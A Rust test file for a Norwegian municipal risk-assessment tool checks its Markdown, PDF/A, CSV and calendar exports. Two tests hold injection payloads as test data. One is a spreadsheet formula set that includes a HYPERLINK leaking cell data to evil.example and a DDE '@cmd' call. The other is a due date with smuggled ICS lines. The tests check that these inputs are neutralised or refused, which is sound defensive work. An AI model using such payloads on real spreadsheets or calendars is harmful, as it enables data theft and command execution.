//! The report of the README's example workshop (tests/data/workshop.ron):
//! Markdown that reads as plain text, and a PDF/A-2b an archivist would file.

use crate::common;

use std::path::Path;

use somevett::outcome;

type TestResult = Result<(), Box<dyn std::error::Error>>;

const WORKSHOP: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/workshop.ron");

fn workshop() -> somevett::domain::Outcome {
    match outcome::load(Path::new(WORKSHOP)) {
        Ok((o, _)) => o,
        Err(e) => panic!("{e}"),
    }
}

#[test]
fn the_markdown_report_of_the_workshop() {
    let md = outcome::export::to_markdown(&workshop(), &common::library());
    insta::assert_snapshot!(md);
}

/// Issue 20 (report.md §4): read as CommonMark, the Markdown says what it
/// means: the risk numbers the matrices use are not renumbered (no ordered
/// list), no heading is split into a code block, heading levels never skip,
/// and the only code blocks are the fenced matrices.
#[test]
fn the_markdown_renders_right_under_commonmark() {
    use pulldown_cmark::{CodeBlockKind, Event, HeadingLevel, Parser, Tag};
    let md = outcome::export::to_markdown(&workshop(), &common::library());
    let mut levels = Vec::new();
    let mut fenced = 0;
    let mut numbers = Vec::new();
    let mut strong = false;
    for event in Parser::new(&md) {
        match event {
            Event::Start(Tag::List(Some(start))) => {
                panic!("an ordered list (from {start}) is renumbered by CommonMark")
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Indented)) => {
                panic!("an indented code block: a heading or line was split")
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(_))) => fenced += 1,
            Event::Start(Tag::Heading { level, .. }) => levels.push(match level {
                HeadingLevel::H1 => 1,
                HeadingLevel::H2 => 2,
                HeadingLevel::H3 => 3,
                HeadingLevel::H4 => 4,
                HeadingLevel::H5 => 5,
                HeadingLevel::H6 => 6,
            }),
            Event::Start(Tag::Strong) => strong = true,
            Event::End(pulldown_cmark::TagEnd::Strong) => strong = false,
            Event::Text(t) if strong => {
                if let Some(n) = t.strip_suffix('.').and_then(|n| n.parse::<u32>().ok()) {
                    numbers.push(n);
                }
            }
            _ => {}
        }
    }
    assert_eq!(levels.first(), Some(&1));
    for pair in levels.windows(2) {
        assert!(
            pair[1] <= pair[0] + 1,
            "a heading level skipped: {levels:?}"
        );
    }
    assert!(fenced >= 2, "the matrices are fenced: {fenced}");
    // Every numbered row too wide for a pipe table keeps its number.
    let report = outcome::report::build(&workshop(), &common::library());
    let too_wide = |t: &outcome::report::Table| {
        t.rows
            .iter()
            .any(|r| format!("| {} |", r.join(" | ")).chars().count() > 80)
    };
    let expected: Vec<u32> = report
        .blocks
        .iter()
        .filter_map(|b| match b {
            outcome::report::Block::Table(t)
                if t.header.first().is_some_and(|h| h == "Nr") && too_wide(t) =>
            {
                Some(
                    t.rows
                        .iter()
                        .filter_map(|r| r[0].parse().ok())
                        .collect::<Vec<u32>>(),
                )
            }
            _ => None,
        })
        .flatten()
        .collect();
    assert!(!expected.is_empty());
    assert_eq!(numbers, expected);
}

/// Risks numbered 4, 6 and 9 (the others left out for a platform) stay 4,
/// 6 and 9 under CommonMark: they were an ordered list, rendered 1, 2, 3,
/// so the matrix's «4» pointed at the wrong risk (report.md §4).
#[test]
fn numbered_rows_keep_their_numbers_under_commonmark() {
    use pulldown_cmark::{Event, Parser, Tag, TagEnd};
    let mut report = outcome::report::build(&workshop(), &common::library());
    report.blocks = vec![outcome::report::Block::Table(outcome::report::Table {
        header: vec!["Nr".into(), "Risiko".into(), "Før tiltak".into()],
        rows: ["4", "6", "9"]
            .iter()
            .map(|n| {
                vec![
                    (*n).to_owned(),
                    "en lang risiko ".repeat(6),
                    "16 Høy".into(),
                ]
            })
            .collect(),
        widths: vec![1.0, 4.0, 1.0],
    })];
    let md = outcome::export::render(&report);
    let mut strong = false;
    let mut numbers = Vec::new();
    for event in Parser::new(&md) {
        match event {
            Event::Start(Tag::List(Some(_))) => panic!("an ordered list: {md}"),
            Event::Start(Tag::Strong) => strong = true,
            Event::End(TagEnd::Strong) => strong = false,
            Event::Text(t) if strong => numbers.push(t.to_string()),
            _ => {}
        }
    }
    assert_eq!(numbers, ["4.", "6.", "9."], "{md}");
}

#[test]
fn the_markdown_reads_as_plain_text() {
    let md = outcome::export::to_markdown(&workshop(), &common::library());
    assert!(!md.contains("<br>"), "no HTML in cells");
    for line in md.lines() {
        // A single word longer than the page (a URL) may pass the width.
        // A heading stays on one line, however long (CommonMark).
        let too_wide =
            line.chars().count() > 80 && line.trim().contains(' ') && !line.starts_with('#');
        assert!(!too_wide, "wider than 80 columns: {line}");
    }
    // Shaped like a saksframlegg, in this order.
    let order = [
        "# Skolens Instagram",
        "- **Saksnummer:** 2026/1234",
        "## Ledelsens beslutning",
        "## Godkjenning",
        "## Sammendrag",
        "## Tiltaksplan",
        "## Risikovurdering",
        "## Etisk refleksjon",
        "## Vurdering etter KS-veilederen",
        "## Dilemmasjekklister",
        "## Kilder",
        "## Vedlegg",
    ];
    let places: Vec<usize> = order
        .iter()
        .map(|h| md.find(h).unwrap_or_else(|| panic!("missing {h}:\n{md}")))
        .collect();
    assert!(places.windows(2).all(|w| w[0] < w[1]), "{order:?} in order");
    // One action plan: the risk table's measures and the checklist's, by due date.
    let plan = &md[places[5]..places[6]];
    let fullfor = plan.find("Fullfør vurderingen").unwrap_or_default();
    let laer = plan.find("Lær opp").unwrap_or_default();
    let ressurser = plan.find("Ressurser for å moderere").unwrap_or_default();
    assert!(0 < fullfor && fullfor < laer && laer < ressurser, "{plan}");
    assert!(plan.contains("Status: gjennomført"), "{plan}");
    assert!(plan.contains("Frist: 31.01.2027"), "{plan}");
    assert!(
        plan.contains("«snart»"),
        "a format 2 due date kept in the note: {plan}"
    );
}

fn pdf_bytes() -> Vec<u8> {
    match outcome::pdf::to_pdf(&workshop(), &common::library()) {
        Ok(b) => b,
        Err(e) => panic!("{e}"),
    }
}

#[test]
fn the_pdf_is_pdf_a_2a_on_a4_with_fonts_embedded() -> TestResult {
    let bytes = pdf_bytes();
    let doc = lopdf::Document::load_mem(&bytes)?;
    let pages = doc.get_pages();
    assert!(pages.len() >= 4, "{} pages", pages.len());
    for id in pages.values() {
        let page = doc.get_dictionary(*id)?;
        let media = page.get(b"MediaBox")?.as_array()?;
        let size: Vec<f32> = media.iter().filter_map(|n| n.as_float().ok()).collect();
        assert_eq!(size.len(), 4);
        assert!(
            (size[2] - 595.28).abs() < 0.5 && (size[3] - 841.89).abs() < 0.5,
            "A4: {size:?}"
        );
    }
    // PDF/A identification in the XMP metadata of the catalog.
    let catalog = doc.catalog()?;
    let metadata = catalog.get(b"Metadata")?.as_reference()?;
    let xmp = String::from_utf8_lossy(&doc.get_object(metadata)?.as_stream()?.content).into_owned();
    assert!(
        xmp.contains("<pdfaid:part>2</pdfaid:part>") || xmp.contains("pdfaid:part=\"2\""),
        "{xmp}"
    );
    assert!(
        xmp.contains("<pdfaid:conformance>A</pdfaid:conformance>")
            || xmp.contains("pdfaid:conformance=\"A\""),
        "{xmp}"
    );
    assert!(xmp.contains("pdfuaid:part"), "PDF/UA-1 is declared: {xmp}");
    assert!(xmp.contains("Skolens Instagram"), "the title: {xmp}");
    assert!(xmp.contains("Meråker kommune"), "the author: {xmp}");
    assert!(
        catalog.get(b"OutputIntents").is_ok(),
        "PDF/A needs an output intent"
    );
    // Every font is embedded.
    let mut fonts = 0;
    for object in doc.objects.values() {
        if let Ok(d) = object.as_dict()
            && d.get(b"Type").and_then(|t| t.as_name()).ok() == Some(b"FontDescriptor".as_slice())
        {
            fonts += 1;
            assert!(
                d.has(b"FontFile2") || d.has(b"FontFile3") || d.has(b"FontFile"),
                "a font that is not embedded: {d:?}"
            );
        }
    }
    assert!(fonts >= 2, "{fonts} fonts");
    Ok(())
}

#[test]
fn the_pdf_text_has_the_front_page_header_page_numbers_and_the_plan() -> TestResult {
    let bytes = pdf_bytes();
    let doc = lopdf::Document::load_mem(&bytes)?;
    let count = doc.get_pages().len() as u32;
    let first = common::pdf::page_text(&doc, 1)?;
    for wanted in [
        "Skolens Instagram",
        "Meråker kommune",
        "2026/1234",
        "Åse Ødegård",
        &format!("Side 1 av {count}"),
    ] {
        assert!(first.contains(wanted), "page 1 lacks {wanted}: {first}");
    }
    let second = common::pdf::page_text(&doc, 2)?;
    assert!(
        second.contains("Meråker kommune · Skolens Instagram · runde 1"),
        "the running header: {second}"
    );
    let all = (1..=count)
        .map(|p| common::pdf::page_text(&doc, p))
        .collect::<Result<Vec<_>, _>>()?
        .join(" ");
    for wanted in [
        "Tiltaksplan",
        "Fullfør vurderingen",
        "Godkjenning",
        "Signatur, den som besluttet",
        "Kilder",
        "Vedlegg",
    ] {
        assert!(all.contains(wanted), "the PDF lacks {wanted}");
    }
    Ok(())
}

/// Poppler draws the first pages as PNG (kept in target/report-pages for a
/// look). Poppler is a system package a clone alone may lack: `.ci/run`
/// installs it and runs this.
#[test]
#[ignore = "needs poppler-utils (pdftoppm); .ci/run installs it and runs the poppler tests"]
fn poppler_draws_the_pdf() -> TestResult {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("report-pages");
    std::fs::create_dir_all(&dir)?;
    let pdf = dir.join("workshop.pdf");
    std::fs::write(&pdf, pdf_bytes())?;
    let status = std::process::Command::new("pdftoppm")
        .args(["-png", "-r", "60", "-f", "1", "-l", "4"])
        .arg(&pdf)
        .arg(dir.join("page"))
        .status()?;
    assert!(status.success());
    let pngs = std::fs::read_dir(&dir)?
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|x| x == "png"))
        .count();
    assert!(pngs >= 4, "{pngs} pages drawn");
    Ok(())
}

/// The rich two-platform example (every risk scored, every KS item and
/// dilemma question answered, the case fields, two rounds) as the case
/// document, written by the real binary.
fn rich_export(
    dir: &Path,
) -> Result<(std::path::PathBuf, std::path::PathBuf), Box<dyn std::error::Error>> {
    rich_export_in(dir, somevett::domain::public::Malform::Bokmal)
}

/// As `rich_export`, in `malform`.
fn rich_export_in(
    dir: &Path,
    malform: somevett::domain::public::Malform,
) -> Result<(std::path::PathBuf, std::path::PathBuf), Box<dyn std::error::Error>> {
    let file = dir.join("kommunens-facebook-og-tiktok.ron");
    let mut rich = crate::example_outcomes::rich(&common::library());
    rich.public.malform = malform;
    // The export is dated the day it runs; a review date that day has
    // passed would add «til ny vurdering» to the summary. The document
    // measured must not depend on the day the test runs.
    rich.next_review = "2099-12-31".parse().ok();
    std::fs::write(&file, outcome::to_ron(&rich)?)?;
    let pdf = dir.join("rich.pdf");
    let out = common::somevett(&[
        "export",
        &file.to_string_lossy(),
        "--force",
        "-o",
        &pdf.to_string_lossy(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    Ok((pdf, dir.join("rich-vedlegg-1.pdf")))
}

/// Issue 20: the rich two-platform example's main document, what
/// management reads, is within 15 pages; the cited texts are its vedlegg.
#[test]
fn the_rich_two_platform_case_document_is_within_15_pages() -> TestResult {
    // Kept in target/tmp/rich for a look.
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("rich");
    std::fs::create_dir_all(&dir)?;
    let (pdf, vedlegg) = rich_export(&dir)?;
    let main = lopdf::Document::load(&pdf)?;
    let pages = main.get_pages().len();
    assert!(pages <= 15, "the main document has {pages} pages");
    assert!(!lopdf::Document::load(&vedlegg)?.get_pages().is_empty());
    let text = common::pdf::all_text(&std::fs::read(&pdf)?)?;
    for wanted in [
        "Forslag til vedtak",
        "Saksbehandler",
        "Beskrivelse av behandlingen",
        "Personvernombudets råd",
        "TikTok",
    ] {
        assert!(text.contains(wanted), "{wanted} missing");
    }
    Ok(())
}

/// Issue 27: in nynorsk the case document keeps within 15 pages too, and
/// reads in nynorsk (the PDF's text, as a reader copies it).
#[test]
fn the_rich_case_document_in_nynorsk_is_within_15_pages_too() -> TestResult {
    let dir = tempfile::tempdir()?;
    let (pdf, _) = rich_export_in(dir.path(), somevett::domain::public::Malform::Nynorsk)?;
    let pages = lopdf::Document::load(&pdf)?.get_pages().len();
    assert!(pages <= 15, "the main document has {pages} pages");
    let text = common::pdf::all_text(&std::fs::read(&pdf)?)?;
    for wanted in [
        "Framlegg til vedtak",
        "Saksbehandlar",
        "Skildring av behandlinga",
        "Råd frå personvernombodet",
        "Avgjerda til leiinga",
        "Sannsyn (S)",
    ] {
        assert!(text.contains(wanted), "{wanted} missing");
    }
    for bokmal in [
        "Forslag til vedtak",
        "Ledelsens beslutning",
        "Sannsynlighet (S)",
    ] {
        assert!(!text.contains(bokmal), "{bokmal} in a nynorsk document");
    }
    Ok(())
}

/// Issue 20: poppler reads the rich example as a tagged PDF (`pdfinfo`:
/// «Tagged: yes») of at most 15 pages, PDF/A-2a by its metadata.
#[test]
#[ignore = "needs poppler-utils (pdfinfo); .ci/run installs it and runs the poppler tests"]
fn poppler_reads_the_rich_case_document_as_tagged() -> TestResult {
    let dir = tempfile::tempdir()?;
    let (pdf, _) = rich_export(dir.path())?;
    let pdfinfo = |args: &[&str]| -> Result<String, Box<dyn std::error::Error>> {
        let out = std::process::Command::new("pdfinfo")
            .args(args)
            .arg(&pdf)
            .output()?;
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    };
    let info = pdfinfo(&[])?;
    let field = |name: &str| {
        info.lines()
            .find_map(|l| l.strip_prefix(name).map(|v| v.trim().to_owned()))
            .unwrap_or_default()
    };
    assert_eq!(field("Tagged:"), "yes", "{info}");
    let pages: usize = field("Pages:").parse()?;
    assert!(pages <= 15, "{pages} pages");
    let meta = pdfinfo(&["-meta"])?;
    assert!(
        meta.contains("<pdfaid:part>2</pdfaid:part>")
            && meta.contains("<pdfaid:conformance>A</pdfaid:conformance>"),
        "{meta}"
    );
    Ok(())
}

/// An app with the workshop open, in a temporary outcomes folder.
fn workshop_app(dir: &Path) -> Result<somevett::app::App, Box<dyn std::error::Error>> {
    let file = dir.join("skolens-instagram-2026-11-23.ron");
    std::fs::copy(WORKSHOP, &file)?;
    let mut app = common::app().with_outcomes(Some(dir.to_path_buf()));
    common::press(&mut app, &["6", "enter"]);
    assert_eq!(common::open_file(&app)?, file);
    Ok(app)
}

fn status_text(app: &somevett::app::App) -> String {
    app.status().map(|s| s.text.clone()).unwrap_or_default()
}

#[test]
fn x_on_okter_writes_the_pdf_beside_the_outcome_and_says_where() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut app = workshop_app(dir.path())?;
    common::press(&mut app, &["x"]);
    assert_eq!(app.top_context(), somevett::keymap::Context::Form);
    common::press(&mut app, &["enter"]);
    let pdf = dir.path().join("skolens-instagram-2026-11-23.pdf");
    assert!(std::fs::read(&pdf)?.starts_with(b"%PDF-"), "PDF by default");
    // The cited guideline texts are a vedlegg of their own beside it, so
    // the document management reads is the case alone (issue 20).
    let attachment = dir
        .path()
        .join("skolens-instagram-2026-11-23-vedlegg-1.pdf");
    let main = lopdf::Document::load(&pdf)?;
    let vedlegg = lopdf::Document::load(&attachment)?;
    let last = common::pdf::page_text(&main, main.get_pages().len() as u32)?;
    assert!(
        last.contains("Vedlegg 1"),
        "the main document lists it: {last}"
    );
    let first = common::pdf::page_text(&vedlegg, 1)?;
    assert!(
        first.contains("Vedlegg 1") && first.contains("Skolens Instagram"),
        "{first}"
    );
    assert!(
        main.get_pages().len() <= 15 && !vedlegg.get_pages().is_empty(),
        "main {} pages, vedlegg {}",
        main.get_pages().len(),
        vedlegg.get_pages().len()
    );
    assert!(
        status_text(&app).contains(&pdf.display().to_string())
            && status_text(&app).contains("vedlegget til"),
        "{}",
        status_text(&app)
    );
    assert_eq!(
        outcome::list(dir.path())?.len(),
        1,
        "the report is not taken for an outcome"
    );
    Ok(())
}

/// `x` puts a relative path beside the outcome, not in the app's working
/// directory, and asks before writing over a report that is there
/// (round 3, rel F8).
#[test]
fn x_writes_a_relative_path_beside_the_outcome_and_asks_before_replacing() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut app = workshop_app(dir.path())?;
    let write = |app: &mut somevett::app::App, name: &str| {
        common::press(app, &["x", "end"]);
        for _ in 0..300 {
            common::press(app, &["backspace"]);
        }
        common::type_text(app, name);
        common::press(app, &["enter"]);
    };
    write(&mut app, "utkast.md");
    let md = dir.path().join("utkast.md");
    assert!(std::fs::read_to_string(&md)?.starts_with("# Skolens"));
    assert!(
        status_text(&app).contains(&md.display().to_string()),
        "{}",
        status_text(&app)
    );
    std::fs::write(&md, "mine notater")?;
    write(&mut app, "utkast.md");
    assert_eq!(app.top_context(), somevett::keymap::Context::Confirm);
    common::press(&mut app, &["n"]);
    assert_eq!(
        std::fs::read_to_string(&md)?,
        "mine notater",
        "n keeps the file"
    );
    write(&mut app, "utkast.md");
    common::press(&mut app, &["y"]);
    assert!(
        std::fs::read_to_string(&md)?.starts_with("# Skolens"),
        "y replaces it"
    );
    // An outcome file is never a report's target.
    write(&mut app, "skolens-instagram-2026-11-23.ron");
    assert!(app.form_error().is_some(), "{:?}", app.form_error());
    Ok(())
}

#[test]
fn x_on_vurdering_takes_an_edited_path_and_refuses_an_unknown_kind() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut app = workshop_app(dir.path())?;
    common::press(&mut app, &["5", "x", "end"]);
    for _ in 0..300 {
        common::press(&mut app, &["backspace"]);
    }
    let md = dir.path().join("rapport.txt");
    common::type_text(&mut app, &md.to_string_lossy());
    common::press(&mut app, &["enter"]);
    assert_eq!(
        app.top_context(),
        somevett::keymap::Context::Form,
        "the form stays open"
    );
    assert!(
        app.form_error().is_some_and(|e| e.contains(".pdf")),
        "{:?}",
        app.form_error()
    );
    for _ in 0..3 {
        common::press(&mut app, &["backspace"]);
    }
    common::type_text(&mut app, "md");
    common::press(&mut app, &["enter"]);
    let md = dir.path().join("rapport.md");
    let text = std::fs::read_to_string(&md)?;
    assert!(text.starts_with("# Skolens Instagram"), "{text}");
    // The document's date is the day it was written (the app's clock).
    let today = somevett::clock::Clock::fixed(common::NOW).now().today;
    assert!(
        text.contains(&format!(
            "- **Dokumentdato:** {}",
            outcome::report::norwegian_date(today)
        )),
        "{text}"
    );
    assert!(
        status_text(&app).contains("rapport.md"),
        "{}",
        status_text(&app)
    );
    Ok(())
}

#[test]
fn a_measures_status_is_set_in_the_answer_form_and_reaches_the_plan() -> TestResult {
    use somevett::domain::risk::MeasureStatus;
    let dir = tempfile::tempdir()?;
    let mut app = workshop_app(dir.path())?;
    // Vurdering opens on its first question, whose measure is gjennomført;
    // the form's fields are Notat, Tiltak, Eier, Frist, Status.
    common::press(
        &mut app,
        &["5", "e", "tab", "tab", "tab", "tab", "left", "enter"],
    );
    let o = app.outcome().ok_or("no outcome")?;
    let m = o
        .checklists
        .get("vurdering.behov.dpia")
        .and_then(|a| a.measure.as_ref())
        .ok_or("no measure")?;
    assert_eq!(m.status, MeasureStatus::Pagar);
    assert_eq!(
        m.text, "Fullfør vurderingen av personvernkonsekvenser.",
        "nothing else changed"
    );
    let md = outcome::export::to_markdown(o, app.library());
    assert!(md.contains("  - Status: pågår\n"), "{md}");
    Ok(())
}

/// A measure, owner or note that begins like a formula is shown, never run,
/// when the action plan is opened in a spreadsheet (round 3, rel F4: five
/// formula cells, `=HYPERLINK(…)` among them).
#[test]
fn the_sheet_runs_no_formula_a_measure_begins_with() -> TestResult {
    use somevett::domain::risk::Measure;
    let mut o = somevett::domain::Outcome::new("id".into(), "Ark".into(), common::now());
    o.risk.entry("egen.1").measures = vec![
        Measure {
            text: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikk\")".into(),
            owner: "+SUM(1+1)".into(),
            note: "@cmd|' /C calc'!A0".into(),
            ..Measure::default()
        },
        Measure {
            text: "-2+3".into(),
            owner: "\t=1+1".into(),
            ..Measure::default()
        },
        Measure {
            text: "Moderer kommentarene".into(),
            ..Measure::default()
        },
    ];
    let library = common::library();
    let bytes = outcome::export::bytes(&o, &library, outcome::export::Kind::Csv, None)?.0;
    let text = String::from_utf8(bytes)?;
    let mut sheet = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = 0;
    for record in sheet.records() {
        for field in record?.iter() {
            cells += 1;
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {field:?}"
            );
        }
    }
    assert!(cells > 10);
    assert!(
        text.contains("'=HYPERLINK"),
        "the text is kept, marked: {text}"
    );
    assert!(text.contains("Moderer kommentarene"), "{text}");
    Ok(())
}

/// A due date can no longer hold anything but a date, so an ICS export
/// cannot carry properties injected through it (round 3, rel F5): a file
/// whose `due` holds a line break is refused when it is read.
#[test]
fn a_due_date_with_calendar_lines_in_a_file_is_refused() -> TestResult {
    let mut o = somevett::domain::Outcome::new("id".into(), "Kalender".into(), common::now());
    o.risk.entry("egen.1").measures = vec![somevett::domain::risk::Measure {
        text: "Tiltak".into(),
        due: common::day("2027-01-01"),
        ..Default::default()
    }];
    let text = outcome::to_ron(&o)?.replace(
        "\"2027-01-01\"",
        "\"2027-01-01\\nATTACH:http://evil.example/x\\nBEGIN:VALARM\"",
    );
    let err = outcome::parse("kalender.ron", &text)
        .err()
        .map(|e| e.to_string());
    assert!(err.is_some_and(|e| e.contains("er ikke en dato")));
    Ok(())
}

/// The calendar's entries keep their UIDs when a due date moves (a new
/// export updates, not duplicates, them), are transparent (a deadline does
/// not make a day busy), and a calendar with no entry is refused with why
/// (round 3, report §5: 17 of 18 UIDs changed; 17 busy days; an empty file).
#[test]
fn calendar_entries_keep_their_uids_and_an_empty_calendar_is_refused() -> TestResult {
    use somevett::domain::risk::Measure;
    let library = common::library();
    let ics = |o: &somevett::domain::Outcome| {
        outcome::export::bytes(o, &library, outcome::export::Kind::Ics, None)
            .map(|(b, _)| String::from_utf8_lossy(&b).into_owned())
    };
    let uids = |text: &str| -> Vec<String> {
        let mut u: Vec<String> = text
            .lines()
            .filter_map(|l| l.strip_prefix("UID:"))
            .map(str::to_owned)
            .collect();
        u.sort();
        u
    };
    let mut o = somevett::domain::Outcome::new("id-1".into(), "Kalender".into(), common::now());
    o.risk.entry("egen.1").measures = (1..=3)
        .map(|i| Measure {
            text: format!("Tiltak {i}"),
            due: common::day(&format!("2027-0{i}-15")),
            ..Measure::default()
        })
        .collect();
    assert!(ics(&o).is_ok_and(|t| t.contains("TRANSP:TRANSPARENT")));
    let before = uids(&ics(&o)?);
    assert_eq!(before.len(), 3);
    // The first measure's due date moves past the others.
    o.risk.entry("egen.1").measures[0].due = common::day("2027-12-01");
    assert_eq!(uids(&ics(&o)?), before, "the same entries, updated");
    for m in &mut o.risk.entry("egen.1").measures {
        m.due = None;
    }
    let err = ics(&o).err().unwrap_or_default();
    assert!(err.contains("Kalenderen ville vært tom"), "{err}");
    Ok(())
}

/// The structure elements under `id`, depth first, as (type, depth, dict).
fn walk<'d>(
    doc: &'d lopdf::Document,
    id: lopdf::ObjectId,
    depth: usize,
    out: &mut Vec<(String, usize, &'d lopdf::Dictionary)>,
) {
    let Ok(dict) = doc.get_dictionary(id) else {
        return;
    };
    let kind = dict
        .get(b"S")
        .and_then(|s| s.as_name())
        .map(|n| String::from_utf8_lossy(n).into_owned())
        .unwrap_or_default();
    out.push((kind, depth, dict));
    let kids: Vec<lopdf::Object> = match dict.get(b"K") {
        Ok(lopdf::Object::Array(a)) => a.clone(),
        Ok(other) => vec![other.clone()],
        Err(_) => Vec::new(),
    };
    for kid in kids {
        if let lopdf::Object::Reference(r) = kid
            && doc.get_dictionary(r).is_ok_and(|d| d.has(b"S"))
        {
            walk(doc, r, depth + 1, out);
        }
    }
}

/// Issue 20: the report is a tagged PDF a screen reader can read: the
/// structure tree's headings never skip a level, every table has header
/// cells with a scope, every figure (the matrices) says in words what it
/// shows, the language is Norwegian, the title is shown, and every heading
/// has a bookmark.
#[test]
fn the_pdf_is_tagged_with_headings_tables_and_figures_a_reader_can_follow() -> TestResult {
    let bytes = pdf_bytes();
    let doc = lopdf::Document::load_mem(&bytes)?;
    let catalog = doc.catalog()?;
    let mark = doc
        .get_dictionary(catalog.get(b"MarkInfo")?.as_reference().unwrap_or((0, 0)))
        .ok()
        .cloned()
        .or_else(|| {
            catalog
                .get(b"MarkInfo")
                .and_then(|m| m.as_dict())
                .ok()
                .cloned()
        })
        .ok_or("no MarkInfo")?;
    assert!(mark.get(b"Marked")?.as_bool()?, "Marked true");
    assert_eq!(catalog.get(b"Lang")?.as_str()?, b"nb");
    let viewer = catalog.get(b"ViewerPreferences").and_then(|v| match v {
        lopdf::Object::Reference(r) => doc.get_dictionary(*r),
        other => other.as_dict(),
    })?;
    assert!(viewer.get(b"DisplayDocTitle")?.as_bool()?);
    assert!(catalog.has(b"Outlines"), "bookmarks");
    let root = catalog.get(b"StructTreeRoot")?.as_reference()?;
    let mut elems = Vec::new();
    walk(&doc, root, 0, &mut elems);
    let kinds: Vec<&str> = elems.iter().map(|(k, _, _)| k.as_str()).collect();
    // Headings nest: each is at most one level below the one before.
    let levels: Vec<u32> = kinds
        .iter()
        .filter_map(|k| k.strip_prefix('H').and_then(|n| n.parse().ok()))
        .collect();
    assert!(levels.len() >= 10, "{levels:?}");
    assert_eq!(levels.first(), Some(&1), "the title is H1");
    for pair in levels.windows(2) {
        assert!(
            pair[1] <= pair[0] + 1,
            "a heading level skipped: {levels:?}"
        );
    }
    // Every table has a header cell, with its scope.
    let tables = elems.iter().filter(|(k, _, _)| k == "Table").count();
    assert!(tables >= 3, "{tables} tables");
    let mut in_table: Option<(usize, bool)> = None;
    let mut headed = 0;
    for (kind, depth, dict) in &elems {
        if let Some((d, has)) = in_table
            && *depth <= d
        {
            assert!(has, "a table without header cells");
            headed += 1;
            in_table = None;
        }
        if kind == "Table" {
            in_table = Some((*depth, false));
        }
        if kind == "TH" {
            if let Some((_, has)) = in_table.as_mut() {
                *has = true;
            }
            let attrs = format!("{:?}", dict.get(b"A"));
            assert!(
                attrs.contains("Scope"),
                "a header cell without scope: {attrs}"
            );
        }
    }
    assert!(headed + usize::from(in_table.is_some()) >= tables);
    // Every figure has a text alternative that names what it shows.
    let figures: Vec<_> = elems.iter().filter(|(k, _, _)| k == "Figure").collect();
    assert!(!figures.is_empty(), "the matrices are figures");
    for (_, _, dict) in figures {
        let alt = text_string(dict.get(b"Alt")?.as_str()?);
        assert!(
            alt.contains("sannsynlighet") && alt.contains("konsekvens"),
            "{alt}"
        );
    }
    assert!(kinds.contains(&"P") && kinds.contains(&"L") && kinds.contains(&"LI"));
    Ok(())
}

/// A PDF text string: UTF-16BE after its byte order mark, else as bytes.
fn text_string(bytes: &[u8]) -> String {
    match bytes.strip_prefix(&[0xFE, 0xFF]) {
        Some(utf16) => {
            let units: Vec<u16> = utf16
                .chunks_exact(2)
                .map(|c| u16::from_be_bytes([c[0], c[1]]))
                .collect();
            String::from_utf16_lossy(&units)
        }
        None => String::from_utf8_lossy(bytes).into_owned(),
    }
}

/// Issue 20: the case document's fields are printed where a saksframlegg
/// has them, a field left empty is not printed (no «Kommune: Kommunen», no
/// internal document id), an exempt document says so on every page, and the
/// forslag til vedtak, KS ch. 2's description, the legal basis and the DPO's
/// advice each have their section.
#[test]
fn the_report_prints_the_case_fields_the_proposal_and_the_description() -> TestResult {
    use somevett::domain::case::{LegalBasis, ProposedFor};
    use somevett::domain::decision::Decision;
    let mut o = workshop();
    let md = outcome::export::to_markdown(&o, &common::library());
    for absent in [
        "Forslag til vedtak",
        "Saksbehandler",
        "Personvernombudets råd",
        "Dokument-id",
    ] {
        assert!(!md.contains(absent), "{absent} printed although not set");
    }
    o.municipality.clear();
    o.case.officer = "Åse Ødegård".into();
    o.case.officer_unit = "Oppvekst".into();
    o.case.delegation = "Delegeringsreglementet pkt. 4.2".into();
    o.case.access = "Unntatt offentlighet, offl. § 24 tredje ledd".into();
    o.case.proposal.text = "Skolen tar i bruk Instagram med moderering.".into();
    o.case.proposal.platforms = vec![ProposedFor {
        platform: "Instagram".into(),
        decision: Some(Decision::BetingetGodkjent),
    }];
    o.processing.purpose = "Informere foresatte.".into();
    o.processing.retention = "Innlegg slettes etter ett skoleår.".into();
    o.processing.basis = Some(LegalBasis::OffentligOppgave);
    o.processing.supplementary_law = "opplæringslova § 1-1".into();
    o.processing.dpo.advice = "Slå av direktemeldinger.".into();
    o.processing.dpo.followed = Some(true);
    let md = outcome::export::to_markdown(&o, &common::library());
    for wanted in [
        "- **Skjerming:** Unntatt offentlighet, offl. § 24 tredje ledd",
        "- **Saksbehandler:** Åse Ødegård, Oppvekst",
        "- **Delegert vedtak:** Delegeringsreglementet pkt. 4.2",
        "## Forslag til vedtak",
        "- **Foreslått for Instagram:** betinget godkjent",
        "## Beskrivelse av behandlingen",
        "- **Lagringstid:** Innlegg slettes etter ett skoleår.",
        "## Behandlingsgrunnlag",
        "art. 6 nr. 1 bokstav e",
        "## Personvernombudets råd",
        "- **Fulgt:** ja",
    ] {
        assert!(md.contains(wanted), "{wanted} missing:\n{md}");
    }
    assert!(!md.contains("**Kommune:**"), "no municipality is set");
    let report = outcome::report::build(&o, &common::library());
    assert!(
        report
            .header
            .starts_with("Unntatt offentlighet, offl. § 24 tredje ledd · "),
        "{}",
        report.header
    );
    // The proposal comes before the summary, the description before the checklists.
    let at = |s: &str| md.find(s).unwrap_or(usize::MAX);
    assert!(at("## Forslag til vedtak") < at("## Sammendrag"));
    assert!(at("## Beskrivelse av behandlingen") < at("## Vurdering etter KS-veilederen"));
    // The PDF takes it too (krilla checks it is still PDF/A-2a and UA-1).
    let pdf = outcome::pdf::to_pdf(&o, &common::library())?;
    assert!(pdf.starts_with(b"%PDF"));
    Ok(())
}

/// A sign no embedded font has (emoji, CJK) is drawn as «?» and the export
/// says which, instead of losing it without a word (report.md §1).
